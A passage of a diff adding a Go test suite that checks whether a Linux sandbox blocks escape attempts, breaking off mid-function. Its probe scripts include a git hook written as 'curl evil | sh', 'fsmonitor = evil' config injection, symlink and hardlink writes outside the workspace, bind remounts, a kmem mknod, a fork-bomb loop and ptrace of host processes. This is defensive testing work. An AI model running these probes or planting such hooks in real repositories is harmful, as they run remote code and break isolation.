@@ -1,0 +1,909 @@
+//go:build linux
+
+package broker
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+)
+
+// The escape suite: every case is a probe that must fail inside the jail,
+// paired with a control that runs the same probe with the relevant layer
+// absent (unjailed, or jailed under a policy widened on exactly that
+// point) and must succeed. A case whose control fails proves nothing, so
+// the control failing fails the test too.
+
+// escapeEnv is one case's world: a workspace the jail may write, a
+// sibling directory it may only read, a directory outside every root,
+// and whatever the case's setup adds.
+type escapeEnv struct {
+	base    string // parent of ws and out, under the test's temp dir
+	ws      string // writable root
+	out     string // readable root, not writable
+	hidden  string // outside every root, visible in the jail's mount table
+	arg     string // case-specific argument passed to the probe as $ARG
+	hits    atomic.Int64
+	env     map[string]string
+	cleanup []func()
+}
+
+func newEscapeEnv(t *testing.T) *escapeEnv {
+	base := t.TempDir()
+	e := &escapeEnv{base: base, ws: filepath.Join(base, "ws"), out: filepath.Join(base, "out")}
+	for _, d := range []string{e.ws, e.out} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// /var/tmp is not under the jail's private /tmp, so a directory there
+	// stays in the jail's view and only Landlock keeps it unreadable.
+	hidden, err := os.MkdirTemp("/var/tmp", "loom-escape-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(hidden) })
+	e.hidden = hidden
+	t.Cleanup(func() {
+		for _, f := range e.cleanup {
+			f()
+		}
+	})
+	return e
+}
+
+func (e *escapeEnv) vars() map[string]string {
+	exe, _ := os.Executable()
+	m := map[string]string{
+		"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+		"HOME": "/nonexistent", "WS": e.ws, "OUT": e.out, "HIDDEN": e.hidden,
+		"ARG": e.arg, "PROBE": exe,
+	}
+	for k, v := range e.env {
+		m[k] = v
+	}
+	return m
+}
+
+// policy is the jailed policy every case starts from.
+func (e *escapeEnv) policy() Policy {
+	exe, _ := os.Executable()
+	return Policy{
+		ReadableRoots: append(SystemReadableRoots(), e.out, filepath.Dir(exe)),
+		WritableRoots: []string{e.ws},
+		Protected:     DefaultProtected(e.ws),
+		Network:       NetworkOff,
+		EnvAllow:      []string{"PATH", "HOME", "WS", "OUT", "HIDDEN", "ARG", "PROBE", probeEnv},
+	}
+}
+
+func (e *escapeEnv) exists(rel ...string) bool {
+	_, err := os.Lstat(filepath.Join(rel...))
+	return err == nil
+}
+
+func (e *escapeEnv) read(p string) string {
+	b, _ := os.ReadFile(p)
+	return string(b)
+}
+
+func (e *escapeEnv) write(t *testing.T, p, s string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// gitRepo lays out the parts of a repository the protected set is about.
+func (e *escapeEnv) gitRepo(t *testing.T, dir string) {
+	t.Helper()
+	e.write(t, filepath.Join(dir, ".git", "config"), "[core]\n\tbare = false\n")
+	e.write(t, filepath.Join(dir, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n")
+	e.write(t, filepath.Join(dir, ".git", "objects", "info", "packs"), "")
+	e.write(t, filepath.Join(dir, ".git", "HEAD"), "ref: refs/heads/main\n")
+}
+
+type escapeCase struct {
+	name string
+	// rootControl marks a case whose control needs uid 0 (the
+	// unprivileged run of the suite leaves it out).
+	rootControl bool
+	setup       func(t *testing.T, e *escapeEnv)
+	// script runs under sh -c with WS, OUT, HIDDEN, ARG and PROBE set.
+	script string
+	// policy adjusts the jailed policy before either run.
+	policy func(e *escapeEnv, p *Policy)
+	// widen, when set, makes the control a jailed run under the widened
+	// policy; otherwise the control runs the script unjailed.
+	widen   func(e *escapeEnv, p *Policy)
+	timeout time.Duration
+	// escaped inspects the host after the run: did the probe succeed?
+	escaped func(t *testing.T, e *escapeEnv, r result) bool
+	// run replaces the generic runner for cases that need their own.
+	run func(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool
+}
+
+func probeSucceeded(_ *testing.T, _ *escapeEnv, r result) bool {
+	return strings.Contains(r.stdout, "PROBE-SUCCEEDED")
+}
+
+func hostListenerHit(_ *testing.T, e *escapeEnv, _ result) bool {
+	time.Sleep(100 * time.Millisecond) // let the accept loop count a late datagram
+	return e.hits.Load() > 0
+}
+
+func widenWritable(dirs ...func(e *escapeEnv) string) func(e *escapeEnv, p *Policy) {
+	return func(e *escapeEnv, p *Policy) {
+		for _, d := range dirs {
+			p.WritableRoots = append(p.WritableRoots, d(e))
+		}
+	}
+}
+
+func outDir(e *escapeEnv) string    { return e.out }
+func hiddenDir(e *escapeEnv) string { return e.hidden }
+
+func noProtected(_ *escapeEnv, p *Policy) { p.Protected = nil }
+func networkFull(_ *escapeEnv, p *Policy) { p.Network = NetworkFull }
+
+// tcpListener opens a host listener on 127.0.0.1 that counts connections.
+func tcpListener(t *testing.T, e *escapeEnv) {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.cleanup = append(e.cleanup, func() { l.Close() })
+	e.arg = l.Addr().String()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			e.hits.Add(1)
+			c.Close()
+		}
+	}()
+}
+
+func udpListener(t *testing.T, e *escapeEnv) {
+	c, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.cleanup = append(e.cleanup, func() { c.Close() })
+	e.arg = c.LocalAddr().String()
+	go func() {
+		buf := make([]byte, 1500)
+		for {
+			if _, _, err := c.ReadFrom(buf); err != nil {
+				return
+			}
+			e.hits.Add(1)
+		}
+	}()
+}
+
+func abstractListener(t *testing.T, e *escapeEnv) {
+	name := fmt.Sprintf("loom-escape-%d-%d", os.Getpid(), time.Now().UnixNano())
+	l, err := net.Listen("unix", "@"+name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.cleanup = append(e.cleanup, func() { l.Close() })
+	e.arg = name
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			e.hits.Add(1)
+			c.Close()
+		}
+	}()
+}
+
+// hostSleeper starts a host process the probe will try to reach.
+func hostSleeper(t *testing.T, e *escapeEnv) *exec.Cmd {
+	cmd := exec.Command("sleep", "60")
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan struct{})
+	go func() { cmd.Wait(); close(done) }()
+	e.cleanup = append(e.cleanup, func() { cmd.Process.Kill(); <-done })
+	e.arg = fmt.Sprint(cmd.Process.Pid)
+	e.env = map[string]string{"SLEEPER_DONE": ""}
+	sleeperDone[e] = done
+	return cmd
+}
+
+var sleeperDone = map[*escapeEnv]chan struct{}{}
+
+func escapeCases() []escapeCase {
+	hooks := func(e *escapeEnv) string { return filepath.Join(e.ws, ".git", "hooks") }
+	return []escapeCase{
+		{
+			name:    "write_outside_direct",
+			script:  `echo pwned > "$OUT/direct"`,
+			widen:   widenWritable(outDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "direct") },
+		},
+		{
+			name:    "write_outside_dotdot",
+			script:  `echo pwned > "$WS/../out/dotdot"`,
+			widen:   widenWritable(outDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "dotdot") },
+		},
+		{
+			name: "write_outside_symlink",
+			setup: func(t *testing.T, e *escapeEnv) {
+				if err := os.Symlink(e.out, filepath.Join(e.ws, "link")); err != nil {
+					t.Fatal(err)
+				}
+			},
+			script:  `echo pwned > "$WS/link/viasymlink"`,
+			widen:   widenWritable(outDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "viasymlink") },
+		},
+		{
+			name:   "write_outside_hardlink",
+			setup:  func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.out, "target"), "original\n") },
+			script: `ln "$OUT/target" "$WS/hl" && echo pwned > "$WS/hl"`,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return e.read(filepath.Join(e.out, "target")) != "original\n"
+			},
+		},
+		{
+			name:    "move_directory_out",
+			setup:   func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.ws, "dir", "f"), "x") },
+			script:  `mv "$WS/dir" "$OUT/moved"`,
+			widen:   widenWritable(outDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "moved", "f") },
+		},
+		{
+			name:    "write_via_proc_self_root",
+			script:  `echo pwned > "/proc/self/root$OUT/procroot"`,
+			widen:   widenWritable(outDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.out, "procroot") },
+		},
+		{
+			name:    "truncate_outside",
+			setup:   func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.out, "target"), "original\n") },
+			script:  `truncate -s 0 "$OUT/target"`,
+			widen:   widenWritable(outDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.read(filepath.Join(e.out, "target")) == "" },
+		},
+		{
+			name:    "write_outside_every_root",
+			script:  `echo pwned > "$HIDDEN/unlisted"`,
+			widen:   widenWritable(hiddenDir),
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.hidden, "unlisted") },
+		},
+		{
+			name:   "read_outside_readable_roots",
+			setup:  func(t *testing.T, e *escapeEnv) { e.write(t, filepath.Join(e.hidden, "secret"), "s3cr3t-file\n") },
+			script: `cat "$HIDDEN/secret"`,
+			widen: func(e *escapeEnv, p *Policy) {
+				p.ReadableRoots = append(p.ReadableRoots, e.hidden)
+			},
+			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool { return strings.Contains(r.stdout, "s3cr3t-file") },
+		},
+		{
+			name:    "write_host_tmp",
+			script:  `echo pwned > "/tmp/$(basename "$WS")-$(basename "$(dirname "$WS")")-hosttmp"`,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(hostTmpMarker(e)) },
+			setup: func(_ *testing.T, e *escapeEnv) {
+				e.cleanup = append(e.cleanup, func() { os.Remove(hostTmpMarker(e)) })
+			},
+		},
+		{
+			name:    "git_hooks_write",
+			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script:  `echo 'curl evil | sh' > "$WS/.git/hooks/pre-commit"; echo ok > "$WS/.git/objects/new-object"`,
+			widen:   noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
+		},
+		{
+			name:   "git_config_write",
+			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script: `printf '[core]\n\tfsmonitor = evil\n' >> "$WS/.git/config"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return strings.Contains(e.read(filepath.Join(e.ws, ".git", "config")), "evil")
+			},
+		},
+		{
+			name:   "git_hooks_replace_directory",
+			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script: `rm -rf "$WS/.git/hooks"; mkdir -p "$WS/.git/hooks"; echo evil > "$WS/.git/hooks/post-checkout"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return e.exists(e.ws, ".git", "hooks", "post-checkout")
+			},
+		},
+		{
+			name:    "git_dir_moved_aside_and_recreated",
+			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script:  `mv "$WS/.git" "$WS/.git-old" && mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"`,
+			widen:   noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
+		},
+		{
+			name:   "git_config_hardlinked",
+			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script: `ln "$WS/.git/config" "$WS/cfg" && echo '[core] fsmonitor = evil' >> "$WS/cfg"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return strings.Contains(e.read(filepath.Join(e.ws, ".git", "config")), "evil")
+			},
+		},
+		{
+			name:    "git_hook_renamed_in",
+			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script:  `echo evil > "$WS/payload" && mv "$WS/payload" "$WS/.git/hooks/pre-push"`,
+			widen:   noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-push") },
+		},
+		{
+			name:   "git_hooks_chmod",
+			setup:  func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws); os.Chmod(hooks(e), 0o755) },
+			script: `chmod 0777 "$WS/.git/hooks"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				fi, _ := os.Stat(hooks(e))
+				return fi.Mode().Perm() == 0o777
+			},
+		},
+		{
+			name: "git_worktree_file_common_hooks",
+			setup: func(t *testing.T, e *escapeEnv) {
+				main := filepath.Join(e.base, "main")
+				e.gitRepo(t, main)
+				wt := filepath.Join(main, ".git", "worktrees", "ws")
+				e.write(t, filepath.Join(wt, "commondir"), "../..\n")
+				e.write(t, filepath.Join(wt, "HEAD"), "ref: refs/heads/wt\n")
+				e.write(t, filepath.Join(e.ws, ".git"), "gitdir: "+wt+"\n")
+			},
+			// A linked worktree's base grants the main repository's .git.
+			policy: func(e *escapeEnv, p *Policy) {
+				p.WritableRoots = append(p.WritableRoots, filepath.Join(e.base, "main", ".git"))
+			},
+			script: `echo evil > "$WS/../main/.git/hooks/post-checkout"; echo ok > "$WS/../main/.git/worktrees/ws/index"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return e.exists(e.base, "main", ".git", "hooks", "post-checkout")
+			},
+		},
+		{
+			name: "git_worktree_file_repointed",
+			setup: func(t *testing.T, e *escapeEnv) {
+				main := filepath.Join(e.base, "main")
+				e.gitRepo(t, main)
+				wt := filepath.Join(main, ".git", "worktrees", "ws")
+				e.write(t, filepath.Join(wt, "commondir"), "../..\n")
+				e.write(t, filepath.Join(e.ws, ".git"), "gitdir: "+wt+"\n")
+			},
+			script: `mkdir -p "$WS/evil/hooks" && echo "gitdir: $WS/evil" > "$WS/.git"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return strings.Contains(e.read(filepath.Join(e.ws, ".git")), "evil")
+			},
+		},
+		{
+			name: "git_symlinked_hooks_dir",
+			setup: func(t *testing.T, e *escapeEnv) {
+				e.gitRepo(t, e.ws)
+				os.RemoveAll(hooks(e))
+				store := filepath.Join(e.ws, ".husky")
+				os.MkdirAll(store, 0o755)
+				if err := os.Symlink(store, hooks(e)); err != nil {
+					t.Fatal(err)
+				}
+			},
+			script:  `echo evil > "$WS/.git/hooks/pre-commit"`,
+			widen:   noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".husky", "pre-commit") },
+		},
+		{
+			name: "git_submodule_hooks",
+			setup: func(t *testing.T, e *escapeEnv) {
+				e.gitRepo(t, e.ws)
+				e.write(t, filepath.Join(e.ws, ".git", "modules", "sub", "config"), "[core]\n")
+				e.write(t, filepath.Join(e.ws, ".git", "modules", "sub", "HEAD"), "ref: refs/heads/main\n")
+				os.MkdirAll(filepath.Join(e.ws, ".git", "modules", "sub", "hooks"), 0o755)
+			},
+			script: `echo evil > "$WS/.git/modules/sub/hooks/post-checkout"`,
+			widen:  noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				return e.exists(e.ws, ".git", "modules", "sub", "hooks", "post-checkout")
+			},
+		},
+		{
+			name: "git_hooks_dir_missing_created",
+			setup: func(t *testing.T, e *escapeEnv) {
+				e.gitRepo(t, e.ws)
+				os.RemoveAll(hooks(e))
+			},
+			script:  `mkdir -p "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"`,
+			widen:   noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
+		},
+		{
+			// git follows <gitdir>/commondir in any repository, so a planted
+			// one redirects hooks and config to a directory the command
+			// controls. It does not exist, so no bind can hold it: the
+			// broker moves it aside when the command ends.
+			name:  "git_commondir_planted",
+			setup: func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			policy: func(e *escapeEnv, p *Policy) {
+				p.Protected = append(p.Protected, filepath.Join(e.ws, ".git", "commondir"))
+			},
+			script:  `mkdir -p "$WS/evil/hooks" && echo "$WS/evil" > "$WS/.git/commondir"`,
+			widen:   noProtected,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "commondir") },
+		},
+		{
+			name:    "umount_protected_bind",
+			setup:   func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script:  `umount -l "$WS/.git/hooks"; echo evil > "$WS/.git/hooks/pre-commit"`,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
+		},
+		{
+			name:        "remount_protected_bind_rw",
+			rootControl: true,
+			setup:       func(t *testing.T, e *escapeEnv) { e.gitRepo(t, e.ws) },
+			script:      `mount -o bind "$WS/.git/hooks" "$WS/.git/hooks" && mount -o remount,bind,rw "$WS/.git/hooks" && echo evil > "$WS/.git/hooks/pre-commit"; umount "$WS/.git/hooks" 2>/dev/null; true`,
+			escaped:     func(_ *testing.T, e *escapeEnv, _ result) bool { return e.exists(e.ws, ".git", "hooks", "pre-commit") },
+		},
+		{
+			name:        "mount_tmpfs",
+			rootControl: true,
+			setup:       func(t *testing.T, e *escapeEnv) { os.MkdirAll(filepath.Join(e.ws, "m"), 0o755) },
+			script:      `mount -t tmpfs none "$WS/m" && echo PROBE-SUCCEEDED; umount "$WS/m" 2>/dev/null; true`,
+			escaped:     probeSucceeded,
+		},
+		{
+			name:        "mknod_device",
+			rootControl: true,
+			script:      `mknod "$WS/kmem" c 1 2 && test -c "$WS/kmem" && echo PROBE-SUCCEEDED; rm -f "$WS/kmem"`,
+			escaped:     probeSucceeded,
+		},
+		{
+			name:        "setuid_binary_gains_nothing",
+			rootControl: true,
+			setup: func(t *testing.T, e *escapeEnv) {
+				data, err := os.ReadFile("/usr/bin/grep")
+				if err != nil {
+					t.Fatal(err)
+				}
+				p := filepath.Join(e.ws, "sgrep")
+				if err := os.WriteFile(p, data, 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.Chown(p, 0, 0); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.Chmod(p, 0o4755); err != nil {
+					t.Fatal(err)
+				}
+			},
+			script: `"$WS/sgrep" -E '^CapEff' /proc/self/status`,
+			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool {
+				return strings.Contains(r.stdout, "CapEff") && !strings.Contains(r.stdout, "0000000000000000")
+			},
+		},
+		{
+			name:   "capability_bounding_set",
+			script: `grep -E '^CapBnd' /proc/self/status`,
+			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool {
+				return strings.Contains(r.stdout, "CapBnd") && !strings.Contains(r.stdout, "0000000000000000")
+			},
+		},
+		{
+			name:    "tcp_connect_host_listener",
+			setup:   tcpListener,
+			script:  `LOOM_ESCAPE_PROBE=tcp exec "$PROBE"`,
+			widen:   networkFull,
+			escaped: hostListenerHit,
+		},
+		{
+			name:    "udp_send_host_listener",
+			setup:   udpListener,
+			script:  `LOOM_ESCAPE_PROBE=udp exec "$PROBE"`,
+			widen:   networkFull,
+			escaped: hostListenerHit,
+		},
+		{
+			name:    "dns_query_host_resolver",
+			setup:   udpListener,
+			script:  `LOOM_ESCAPE_PROBE=dns exec "$PROBE"`,
+			widen:   networkFull,
+			escaped: hostListenerHit,
+		},
+		{
+			name:    "abstract_unix_socket_of_host",
+			setup:   abstractListener,
+			script:  `LOOM_ESCAPE_PROBE=abstract exec "$PROBE"`,
+			escaped: hostListenerHit,
+		},
+		{
+			name:   "env_var_not_allowlisted",
+			setup:  func(_ *testing.T, e *escapeEnv) { e.env = map[string]string{"API_TOKEN": "s3cr3t-env"} },
+			script: `echo "token=$API_TOKEN"`,
+			widen: func(_ *escapeEnv, p *Policy) {
+				p.EnvAllow = append(p.EnvAllow, "API_TOKEN")
+			},
+			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool { return strings.Contains(r.stdout, "s3cr3t-env") },
+		},
+		{
+			name:    "env_var_of_host_process",
+			script:  `env`,
+			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool { return strings.Contains(r.stdout, hostSecretValue) },
+		},
+		{
+			name:   "kill_host_pid",
+			setup:  func(t *testing.T, e *escapeEnv) { hostSleeper(t, e) },
+			script: `kill -9 "$ARG"`,
+			escaped: func(_ *testing.T, e *escapeEnv, _ result) bool {
+				select {
+				case <-sleeperDone[e]:
+					return true
+				case <-time.After(200 * time.Millisecond):
+					return false
+				}
+			},
+		},
+		{
+			name:    "ptrace_host_pid",
+			setup:   func(t *testing.T, e *escapeEnv) { hostSleeper(t, e) },
+			script:  `LOOM_ESCAPE_PROBE=ptrace exec "$PROBE"`,
+			escaped: probeSucceeded,
+		},
+		{
+			name:    "ptrace_own_child",
+			script:  `LOOM_ESCAPE_PROBE=ptrace-child exec "$PROBE"`,
+			escaped: probeSucceeded,
+		},
+		{
+			name:    "io_uring_setup",
+			script:  `LOOM_ESCAPE_PROBE=io_uring exec "$PROBE"`,
+			escaped: probeSucceeded,
+		},
+		{
+			name:    "keyctl_add_key",
+			script:  `LOOM_ESCAPE_PROBE=keyctl exec "$PROBE"`,
+			escaped: probeSucceeded,
+		},
+		{
+			name:        "bpf_map_create",
+			rootControl: true,
+			script:      `LOOM_ESCAPE_PROBE=bpf exec "$PROBE"`,
+			escaped:     probeSucceeded,
+		},
+		{
+			name:    "new_user_namespace",
+			script:  `unshare -U true && echo PROBE-SUCCEEDED`,
+			escaped: probeSucceeded,
+		},
+		{
+			name: "fork_bomb_bounded",
+			// Spawning 500 concurrent processes must fail under a ceiling of
+			// 64 (RLIMIT_NPROC, and for uid 0, which that rlimit exempts, the
+			// pid namespace's pid_max of 64+pidReserve); the widened control
+			// (ceiling 1024) shows the probe itself can do it.
+			script: `i=0; while [ $i -lt 500 ]; do sleep 5 & if [ $? -ne 0 ]; then exit 1; fi; i=$((i+1)); done; echo PROBE-SUCCEEDED; kill $(jobs -p) 2>/dev/null`,
+			policy: func(_ *escapeEnv, p *Policy) { p.Limits.Processes = 64 },
+			widen:  func(_ *escapeEnv, p *Policy) { p.Limits.Processes = 1024 },
+			escaped: func(_ *testing.T, _ *escapeEnv, r result) bool {
+				return strings.Contains(r.stdout, "PROBE-SUCCEEDED")
+			},
+		},
+		{name: "setsid_grandchild_survives_timeout", run: runSetsidGrandchild},
+		{name: "output_flood_grows_host_memory", run: runOutputFlood},
+		{name: "closed_stdout_outlives_timeout", run: runClosedStdout},
+	}
+}
+
+const (
+	hostSecretName  = "LOOM_ESCAPE_HOST_SECRET"
+	hostSecretValue = "s3cr3t-host-env"
+)
+
+func hostTmpMarker(e *escapeEnv) string {
+	return filepath.Join("/tmp", filepath.Base(e.ws)+"-"+filepath.Base(e.base)+"-hosttmp")
+}
+
+// runEscape runs c once, jailed or as its control, and reports whether
+// the probe escaped.
+func runEscape(t *testing.T, b *Broker, c escapeCase, jailed bool) bool {
+	e := newEscapeEnv(t)
+	if c.setup != nil {
+		c.setup(t, e)
+	}
+	if c.run != nil {
+		return c.run(t, b, e, jailed)
+	}
+	p := e.policy()
+	if c.policy != nil {
+		c.policy(e, &p)
+	}
+	timeout := c.timeout
+	if timeout == 0 {
+		timeout = 20 * time.Second
+	}
+	var r result
+	switch {
+	case jailed:
+		r = runIn(t, b, e, p, timeout, c.script)
+	case c.widen != nil:
+		c.widen(e, &p)
+		r = runIn(t, b, e, p, timeout, c.script)
+	default:
+		r = runUnjailed(t, e, timeout, c.script)
+	}
+	got := c.escaped(t, e, r)
+	if got == jailed {
+		t.Logf("jailed=%v stdout=%q stderr=%q settled=%+v\n%s", jailed, r.stdout, r.stderr, r.settled, r.enf)
+	}
+	return got
+}
+
+func runIn(t *testing.T, b *Broker, e *escapeEnv, p Policy, timeout time.Duration, script string) result {
+	t.Helper()
+	ex, d := b.Clear(context.Background(), CallSpec{
+		Key: StepKey{OpID: "escape", StepID: t.Name()}, Argv: []string{"sh", "-c", script},
+		Dir: e.ws, Env: e.vars(), Policy: p, Budget: Budget{MaxOutstanding: 1}, Timeout: timeout,
+	})
+	if d != nil {
+		t.Fatalf("Clear: %v", d)
+	}
+	return collect(ex)
+}
+
+func collect(ex *Execution) result {
+	var out, errb bytes.Buffer
+	for o := range ex.Output() {
+		if o.Stream == Stdout {
+			out.Write(o.Bytes)
+		} else {
+			errb.Write(o.Bytes)
+		}
+	}
+	return result{out.String(), errb.String(), ex.Wait(), ex.Enforcement}
+}
+
+func runUnjailed(t *testing.T, e *escapeEnv, timeout time.Duration, script string) result {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), timeout)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, "sh", "-c", script)
+	cmd.Dir = e.ws
+	cmd.Env = os.Environ()
+	for k, v := range e.vars() {
+		cmd.Env = append(cmd.Env, k+"="+v)
+	}
+	var out, errb bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &errb
+	err := cmd.Run()
+	code := 0
+	if err != nil {
+		code = -1
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
+		}
+	}
+	return result{stdout: out.String(), stderr: errb.String(), settled: Settled{ExitCode: code}}
+}
+
+// markerAlive reports whether a host process whose command line holds
+// marker is alive (and kills it when kill is set).
+func markerAlive(marker string, kill bool) bool {
+	ents, _ := os.ReadDir("/proc")
+	alive := false
+	for _, ent := range ents {
+		b, err := os.ReadFile(filepath.Join("/proc", ent.Name(), "cmdline"))
+		if err != nil || !bytes.Contains(b, []byte(marker)) || bytes.Contains(b, []byte("sh\x00-c")) {
+			continue
+		}
+		st, _ := os.ReadFile(filepath.Join("/proc", ent.Name(), "stat"))
+		if f := strings.Fields(string(st)); len(f) > 2 && f[2] == "Z" {
+			continue
+		}
+		alive = true
+		if kill {
+			var pid int
+			fmt.Sscan(ent.Name(), &pid)
+			syscall.Kill(pid, syscall.SIGKILL)
+		}
+	}
+	return alive
+}
+
+// runSetsidGrandchild: a grandchild that setsid()s and sleeps must be
+// dead once the call timed out. The control runs the same script as a
+// plain process group killed at the timeout, which the grandchild
+// escapes.
+func runSetsidGrandchild(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool {
+	secs := fmt.Sprintf("%d.%03d", 300+time.Now().UnixNano()%1000, time.Now().UnixNano()%997)
+	script := fmt.Sprintf(`setsid sleep %s & sleep 300`, secs)
+	defer markerAlive("sleep\x00"+secs, true)
+	if jailed {
+		r := runIn(t, b, e, e.policy(), time.Second, script)
+		if !r.settled.TimedOut {
+			t.Errorf("settled %+v, want TimedOut", r.settled)
+		}
+	} else {
+		cmd := exec.Command("sh", "-c", script)
+		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		time.Sleep(time.Second)
+		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
+		cmd.Wait()
+	}
+	deadline := time.Now().Add(2 * time.Second)
+	for time.Now().Before(deadline) {
+		if markerAlive("sleep\x00"+secs, false) {
+			if !jailed {
+				return true
+			}
+			time.Sleep(50 * time.Millisecond)
+			continue
+		}
+		if jailed {
+			return false
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	return markerAlive("sleep\x00"+secs, false)
+}
+
+// floodBound is the host heap growth an output flood may cause.
+const floodBound = 16 << 20
+
+// runOutputFlood: a command writing as fast as it can for two seconds,
+// read by a consumer that keeps up slowly, must not grow host memory past
+// floodBound. The control reads the same flood unbounded (what a naive
+// collector does) and grows past it.
+func runOutputFlood(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool {
+	runtime.GC()
+	var before runtime.MemStats
+	runtime.ReadMemStats(&before)
+	var peak atomic.Uint64
+	sample := func() {
+		var m runtime.MemStats
+		runtime.ReadMemStats(&m)
+		for {
+			p := peak.Load()
+			if m.HeapAlloc <= p || peak.CompareAndSwap(p, m.HeapAlloc) {
+				return
+			}
+		}
+	}
+	var total int
+	if jailed {
+		ex, d := b.Clear(context.Background(), CallSpec{
+			Key: StepKey{OpID: "escape", StepID: t.Name()}, Argv: []string{"sh", "-c", "cat /dev/zero"},
+			Dir: e.ws, Env: e.vars(), Policy: e.policy(), Budget: Budget{MaxOutstanding: 1}, Timeout: 2 * time.Second,
+		})
+		if d != nil {
+			t.Fatal(d)
+		}
+		n := 0
+		for o := range ex.Output() {
+			total += len(o.Bytes)
+			if n++; n%64 == 0 {
+				sample()
+				time.Sleep(time.Millisecond)
+			}
+		}
+		if s := ex.Wait(); !s.TimedOut {
+			t.Errorf("flood settled %+v, want TimedOut", s)
+		}
+	} else {
+		var buf bytes.Buffer
+		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
+		defer cancel()
+		cmd := exec.CommandContext(ctx, "cat", "/dev/zero")
+		cmd.Stdout = &buf
+		sampled := make(chan struct{})
+		go func() {
+			defer close(sampled)
+			for ctx.Err() == nil {
+				sample()
